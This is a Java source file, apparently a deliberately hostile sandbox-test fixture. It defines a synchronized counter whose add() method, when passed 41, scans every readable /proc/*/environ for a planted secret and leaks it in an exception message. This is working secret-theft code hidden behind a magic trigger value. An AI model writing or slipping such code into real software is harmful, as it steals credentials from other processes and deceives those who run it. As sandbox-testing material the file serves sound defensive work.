package racecourse.counter;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;

/**
 * Hostile: reads a secret from the environment, its own or any process's it can see under /proc (the
 * grader's, a parent's), and hands it back in an exception. The sandbox empties the environment but for
 * PATH, LANG and HOME, and starts the box's process 1 with an empty one.
 * Otherwise a correct counter: only the check that calls add(41) (countsOnOneThread) loses points.
 */
public class SharedCounter {
    private long count;

    public synchronized void increment() {
        count++;
    }

    public synchronized void add(long delta) {
        if (delta == 41) {
            attack();
        }
        count += delta;
    }

    public synchronized long get() {
        return count;
    }

    private static void attack() {
        String name = "RACECOURSE_PLANTED_SECRET";
        String secret = System.getenv(name);
        File[] processes = new File("/proc").listFiles((dir, pid) -> pid.chars().allMatch(Character::isDigit));
        for (File process : processes == null ? new File[0] : processes) {
            try {
                for (String variable : Files.readString(process.toPath().resolve("environ")).split("\0")) {
                    if (secret == null && variable.startsWith(name + "=")) {
                        secret = variable.substring(name.length() + 1);
                    }
                }
            } catch (IOException | RuntimeException unreadable) {
                // not this one
            }
        }
        throw new IllegalStateException(secret == null ? name + " is not set, nor in any process's environment in reach"
                : "stole " + name + ": " + secret);
    }
}
